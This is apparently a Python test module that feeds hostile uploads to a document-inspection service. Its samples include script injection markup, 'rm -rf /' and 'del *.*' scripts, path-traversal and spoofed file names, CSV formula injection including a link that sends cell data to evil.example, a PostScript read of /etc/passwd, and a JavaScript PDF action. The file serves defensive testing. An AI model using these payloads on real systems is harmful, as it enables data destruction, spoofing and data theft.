# ruff: noqa: E501 - rows of hostile values and of markup stay on their lines
"""Hostile names, texts, programs and markup under all kinds of names; marked texts; random and damaged bytes."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path

from apps.documents.inspection.outcome import Reason
from tests.hostile_files.case import ANY, Case
from tests.hostile_files.samples import docx, odf, packed, pdf, picture, pptx, xlsx

MARKUP = (
    "<html><body>x</body></html>", "<!DOCTYPE html><p>x", "<script>alert(1)</script>", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "  \n\t<SVG></SVG>", "<?xml version='1.0'?><svg/>", "hello <iframe src=x></iframe>", "<?php phpinfo(); ?>", "\ufeff<html>", "x\n<img src=x onerror=alert(1)>",
    "<xsl:stylesheet version='1.0'>", "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>",
)  # fmt: skip
SCRIPTS = (
    "#!/bin/sh\nrm -rf /",
    "#!/usr/bin/env python\n",
    "@echo off\r\ndel *.*",
    "[InternetShortcut]\nURL=file://evil",
    "[Desktop Entry]\nExec=evil",
)
PROGRAMS = (
    b"MZ\x90\0" + b"\0" * 60,
    b"\x7fELF\x02\x01\x01\0",
    b"\xca\xfe\xba\xbe\0\0\0\x34",
    b"\xcf\xfa\xed\xfe\x07\0\0\1",
    b"\0asm\1\0\0\0",
    b"dex\n035\0",
    b"L\0\0\0\1\x14\2\0",
)
NAMES = (
    ("", Reason.NAME_EMPTY), (" ", Reason.NAME_EMPTY), ("...", Reason.NAME_EMPTY), ("a" * 300 + ".txt", Reason.NAME_TOO_LONG),
    ("ї" * 150 + ".txt", Reason.NAME_TOO_LONG), ("../a.txt", Reason.NAME_IS_PATH), ("a/b.txt", Reason.NAME_IS_PATH), ("..\\a.txt", Reason.NAME_IS_PATH),
    ("C:a.txt", Reason.NAME_IS_PATH), ("/etc/passwd", Reason.NAME_IS_PATH), ("a\0.txt", Reason.NAME_CONTROL), ("a\r\nSet-Cookie: x.txt", Reason.NAME_CONTROL),
    ("a\x1b[2J.txt", Reason.NAME_CONTROL), ("a\u202etxt.exe", Reason.NAME_DIRECTION), ("a\u2066b.txt", Reason.NAME_DIRECTION), ("a\u200fb.txt", Reason.NAME_DIRECTION),
    ("a\u200b.txt", Reason.NAME_INVISIBLE), ("a\u2028.txt", Reason.NAME_INVISIBLE), ("a\ud800.txt", Reason.NAME_INVISIBLE), ("a\ue000.txt", Reason.NAME_INVISIBLE),
    ("CON.txt", Reason.NAME_RESERVED), ("nul", Reason.NAME_RESERVED), ("com1.pdf", Reason.NAME_RESERVED), ("a.txt:stream", Reason.NAME_RESERVED),
    ("a<b>.txt", Reason.NAME_RESERVED), ("a*.txt", Reason.NAME_RESERVED), (" a.txt", Reason.NAME_EDGE), ("a.txt ", Reason.NAME_EDGE), ("a.txt.", Reason.NAME_EDGE),
    (".htaccess", Reason.NAME_EDGE), ("a.txt.exe", Reason.EXTENSION_NOT_ALLOWED), ("a.lnk", Reason.EXTENSION_NOT_ALLOWED), ("a.js", Reason.EXTENSION_NOT_ALLOWED),
    ("a.hta", Reason.EXTENSION_NOT_ALLOWED), ("a", Reason.EXTENSION_NOT_ALLOWED), ("a.pdf", Reason.EXTENSION_MISMATCH), ("a.docx", Reason.EXTENSION_MISMATCH), ("a.png", Reason.EXTENSION_MISMATCH),
)  # fmt: skip
MARKED = (
    "Для службового користування", "ДЛЯ СЛУЖБОВОГО\nКОРИСТУВАННЯ", "Д Л Я  С Л У Ж Б О В О Г О  К О Р И С Т У В А Н Н Я", "ДСК", "(ДСК)\nПрим. № 1", "Таємно\nПрим. № 1",
    "ЦІЛКОМ ТАЄМНО", "Особливої важливості", "TАЄMHO", "Та\u00adєм\u200bно", "RESTREINT UE/EU RESTRICTED", "NATO SECRET", "COSMIC TOP SECRET", "VS-NfD",
    "VS-NUR FÜR DEN DIENSTGEBRAUCH", "ŚCIŚLE TAJNE", "ΑΠΟΡΡΗΤΟ", "SECRET//NOFORN",
)  # fmt: skip


def cases() -> Iterator[Case]:
    yield from names()
    yield from texts()
    yield from marked()
    yield from noise()
    yield from mutations()


def names() -> Iterator[Case]:
    for number, (name, reason) in enumerate(NAMES):
        yield Case(f"name-{number}", name, b"hello", reason)


def texts() -> Iterator[Case]:
    for number, body in enumerate(MARKUP):
        for ending in ("txt", "svg", "png", "csv") if number < 5 else ("txt", "html"):
            yield Case(f"markup-{number}-{ending}", f"a.{ending}", body.encode(), Reason.MARKUP)
    yield Case("markup-utf16", "a.txt", MARKUP[0].encode("utf-16"), Reason.MARKUP)
    for number, body in enumerate(SCRIPTS):
        for ending in ("txt", "sh"):
            yield Case(f"script-{number}-{ending}", f"a.{ending}", body.encode(), Reason.SCRIPT)
    for number, program in enumerate(PROGRAMS):
        for ending in ("exe", "pdf", "txt"):
            yield Case(f"program-{number}-{ending}", f"a.{ending}", program + b"\0" * 99, Reason.EXECUTABLE)
    yield Case("rtf", "a.txt", b"{\\rtf1 {\\object\\objdata x}}", Reason.TYPE_NOT_ALLOWED)
    yield Case("sylk", "a.csv", b"ID;PWXL;N;E\nC;Y1;X1;ECALL()\n", Reason.TYPE_NOT_ALLOWED)
    yield Case("mhtml", "a.txt", b"MIME-Version: 1.0\nContent-Type: text/html\n\nx", Reason.TYPE_NOT_ALLOWED)
    yield Case("postscript", "a.txt", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file", Reason.TYPE_NOT_ALLOWED)
    yield Case("empty-txt", "a.txt", b"", Reason.EMPTY)
    yield Case("empty-pdf", "a.pdf", b"", Reason.EMPTY)
    yield Case("blank-txt", "a.txt", b" \n\t ", Reason.EMPTY)
    yield Case("control-txt", "a.txt", b"a\x07b", Reason.TYPE_UNKNOWN)
    yield Case("escape-txt", "a.txt", b"a\x1b]0;x\x07b", Reason.TYPE_UNKNOWN)
    yield Case("direction-txt", "a.txt", "a\u202eb".encode(), Reason.TYPE_UNKNOWN)
    yield Case("latin1-txt", "a.txt", "café à la crème".encode("latin-1"), Reason.TYPE_UNKNOWN)
    yield Case("cp1251-txt", "a.txt", "Статут товариства".encode("cp1251"), None)
    yield Case("utf16-txt", "a.txt", "Статут".encode("utf-16"), None)
    yield Case("utf16-cut", "a.txt", "Статут".encode("utf-16")[:-1], Reason.TYPE_UNKNOWN)
    for number, cell in enumerate(
        (
            "=cmd|' /C calc'!A0",
            "\"=cmd|'/C calc'!A0\"",
            '"=HYPERLINK(""http://evil.example?""&A1,""x"")"',
            "+WEBSERVICE(1)",
            "@SUM(1)+cmd|'x'!A0",
            "-DDE(1)",
            "\t=IMPORTXML(1)",
        )
    ):
        yield Case(f"csv-formula-{number}", "a.csv", f"a,b\n1,{cell}\n".encode(), Reason.ACTIVE_FIELD)
    yield Case("csv-plain", "a.csv", b"a;b\n-1,5;+380441234567\n=A1+B1;@name\nx | y;call (us)!\n", None)
    yield Case("json-deep", "a.json", b"[" * 100_000 + b"]" * 100_000, Reason.TOO_COMPLEX)
    yield Case("json-broken", "a.json", b'{"a": ', Reason.EXTENSION_MISMATCH)
    yield Case("json-number", "a.json", b'{"a": ' + b"9" * 100_000 + b"}", None)
    yield Case("json-plain", "a.json", json.dumps({"a": ["ї", 1.5, None]}).encode(), None)
    yield Case(
        "step-plain",
        "a.step",
        b"ISO-10303-21;\nHEADER;\nENDSEC;\nDATA;\n#1=X('a');\nENDSEC;\nEND-ISO-10303-21;\n",
        None,
    )
    yield Case("step-no-end", "a.step", b"ISO-10303-21;\nHEADER;\n", Reason.EXTENSION_MISMATCH)
    yield Case(
        "step-then-html", "a.stp", b"ISO-10303-21;\n/* <script>1</script> */\nEND-ISO-10303-21;\n", Reason.MARKUP
    )
    yield Case("dxf-plain", "a.dxf", b"0\nSECTION\n2\nHEADER\n0\nENDSEC\n0\nEOF\n", None)
    yield Case(
        "dxf-ole",
        "a.dxf",
        b"0\nSECTION\n2\nENTITIES\n0\nOLE2FRAME\n310\n00\n0\nENDSEC\n0\nEOF\n",
        Reason.EMBEDDED_OBJECT,
    )
    yield Case("huge-sparse", "a.pdf", _sparse(600 * 1024 * 1024), Reason.TOO_LARGE)
    yield Case("huge-zeros", "a.txt", _sparse(300 * 1024 * 1024), Reason.TYPE_UNKNOWN)
    yield Case("huge-text", "a.txt", _long(65 * 1024 * 1024), Reason.TOO_LARGE)
    yield Case("text-one-line", "a.csv", _long(6 * 1024 * 1024, b",=x|"), None)


def marked() -> Iterator[Case]:
    for number, marking in enumerate(MARKED):
        yield Case(
            f"marked-txt-{number}", "a.txt", f"{marking}\n\nЗвіт про випробування\n".encode(), Reason.MARKED_CLASSIFIED
        )
    for number, name in enumerate(
        ("Звіт ДСК.txt", "nato-secret_plan.txt", "Для службового користування.txt", "(Таємно) план.txt")
    ):
        yield Case(f"marked-name-{number}", name, b"hello", Reason.MARKED_CLASSIFIED)
    for marking in ("NATO RESTRICTED", "EU SECRET", "COSMIC TOP SECRET"):
        yield Case(f"marked-pdf-{marking[:4]}", "a.pdf", pdf(text=marking), Reason.MARKED_CLASSIFIED)
        titled = pdf(trailer=f"/Info << /Title ({marking}) >>")
        yield Case(
            f"marked-pdf-{marking[:4]}-as-object",
            "a.pdf",
            pdf(objects=(f"<< /Title ({marking}) >>",)),
            Reason.MARKED_CLASSIFIED,
        )
        yield Case(f"marked-pdf-{marking[:4]}-title", "a.pdf", titled, ANY)
    yield Case("marked-cp1251", "a.txt", "Цілком таємно\nПрим. 1\n".encode("cp1251"), Reason.MARKED_CLASSIFIED)
    yield Case("marked-json", "a.json", json.dumps({"t": "x\nNATO SECRET\n"}, indent=1).encode(), ANY)
    yield Case("marked-csv", "a.csv", "Для службового користування,,\na,b,c\n".encode(), Reason.MARKED_CLASSIFIED)


def noise() -> Iterator[Case]:
    chance = random.Random(20_260_301)
    for number in range(30):
        body = chance.randbytes(chance.randrange(1, 20_000))
        ending = ("pdf", "png", "jpg", "webp", "zip", "docx", "txt", "json", "csv", "xlsx")[number % 10]
        yield Case(f"noise-{number}", f"a.{ending}", body, ANY)
    for label, magic in (
        ("pdf", b"%PDF-1.7\n"),
        ("png", b"\x89PNG\r\n\x1a\n"),
        ("jpg", b"\xff\xd8\xff\xe0"),
        ("zip", b"PK\x03\x04"),
        ("webp", b"RIFF\xff\0\0\0WEBPVP8 "),
    ):
        yield Case(f"noise-behind-{label}", f"a.{label}", magic + chance.randbytes(9_000), ANY)


def mutations() -> Iterator[Case]:
    chance = random.Random(7)
    script = pdf(catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")
    whole = {
        "pdf": script,
        "png": picture("PNG"),
        "jpg": picture("JPEG"),
        "webp": picture("WEBP"),
        "zip": packed({"a.txt": "hello" * 9}),
        "docx": docx(),
        "xlsx": xlsx(),
        "pptx": pptx(),
        "odt": odf(),
    }
    for ending, data in whole.items():
        for number in range(8):
            changed = bytearray(data)
            for _ in range(chance.choice((1, 3, 20))):
                changed[chance.randrange(len(changed))] = chance.randrange(256)
            if number % 4 == 3:
                at, length = chance.randrange(len(changed)), chance.randrange(1, 200)
                changed[at : at + length] = changed[:length] if number % 8 == 3 else b""
            gone = (b"/JavaScript",) if ending == "pdf" else ()
            yield Case(f"mutated-{ending}-{number}", f"a.{ending}", bytes(changed), ANY, gone=gone)


def _sparse(size: int):
    def make(path: Path) -> None:
        with path.open("wb") as file:
            file.truncate(size)

    return make


def _long(size: int, piece: bytes = b"a line of text\n"):
    def make(path: Path) -> None:
        with path.open("wb") as file:
            for _ in range(size // (len(piece) * 10_000)):
                file.write(piece * 10_000)
            file.write(piece * 10_000)

    return make
